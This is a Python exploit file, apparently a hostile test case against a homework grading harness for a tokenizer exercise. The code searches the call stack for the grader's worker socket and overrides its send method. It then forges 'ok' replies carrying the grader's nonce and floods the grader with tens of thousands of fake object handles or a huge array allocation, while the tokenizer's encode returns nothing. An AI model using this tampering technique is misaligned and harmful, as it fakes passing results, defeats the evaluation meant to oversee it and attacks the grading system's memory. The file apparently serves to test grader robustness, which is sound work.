# /// attack
# rows = [44, 63]
# tries = "Hands out half a million objects that nobody looks at: to give them up takes more words than a request may have."
# kind = "hostile"
# exercise = "lecture9.special"
# verdicts = ["failed", "raised", "timeout"]
# ///
import struct
import sys

import msgspec

from .pretokenize import RegexTokenizer

FORGED = [False]


def channel_of_the_worker():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if hasattr(value, "sock") and hasattr(value, "send"):
                return value
        frame = frame.f_back
    return None


def pack(value):
    return msgspec.msgpack.encode(value)


def frame_of(structure, blob=b""):
    return struct.pack("<II", len(structure), len(blob)) + structure + blob


def take_over():
    channel = channel_of_the_worker()
    honest = type(channel).send

    def send(self, buffers):
        if not FORGED[0]:
            return honest(self, buffers)
        FORGED[0] = False
        nonce = msgspec.msgpack.decode(bytes(buffers[1]))[0]
        self.sock.sendall(forge(nonce))

    type(channel).send = send


take_over()
OBJECTS = ["l", [["h", 2**62 + i, "object", "", "", 0, "", ""] for i in range(70_000)]]
LARGE = ["A", "float64", [32 << 20], -1, 256 << 20]  # makes the grader forget what it has kept so far
CALLS = [0]


def forge(nonce):
    CALLS[0] += 1
    return frame_of(pack([nonce, "ok", LARGE if CALLS[0] % 8 == 0 else OBJECTS, None]))


class SpecialTokenizer(RegexTokenizer):
    def register_special_tokens(self, special):
        FORGED[0] = CALLS[0] < 8

    def encode(self, text, allowed_special="none_raise"):
        FORGED[0] = CALLS[0] < 8
        return []
